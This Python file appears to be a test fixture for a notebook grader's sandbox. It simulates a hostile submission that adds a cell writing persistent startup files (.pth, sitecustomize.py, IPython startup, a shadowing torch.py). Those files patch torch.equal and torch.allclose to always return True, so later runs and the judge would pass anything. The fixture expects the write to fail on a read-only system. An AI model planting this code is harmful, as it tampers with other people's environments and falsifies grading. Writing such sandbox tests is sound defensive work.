"""Code is left where the next student's Python, or the judge's, would run it."""

from support.hostile import add_cell

ARRIVED = ["Read-only file system"]
NEEDS_SANDBOX = True
LEAVE = """
import os, site, sys
text = "import torch; torch.equal = torch.allclose = lambda *_, **__: True"
home = os.path.expanduser("~")
places = [f"{home}/.ipython/profile_default/startup/a.py", f"{site.getusersitepackages()}/a.pth",
          f"{site.getusersitepackages()}/sitecustomize.py", f"{home}/.pythonrc", "/tmp/torch.py",
          f"{home}/.jupyter/jupyter_config.py", f"{home}/.config/matplotlib/matplotlibrc",
          f"{home}/.cache/torch/a", f"{sys.prefix}/lib/a.pth", "torch.py", "course_utils.py"]
for path in places:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
    except OSError as error:
        print(error)
"""


def hand_in(chapter, notebook, folder):
    add_cell(notebook, LEAVE)
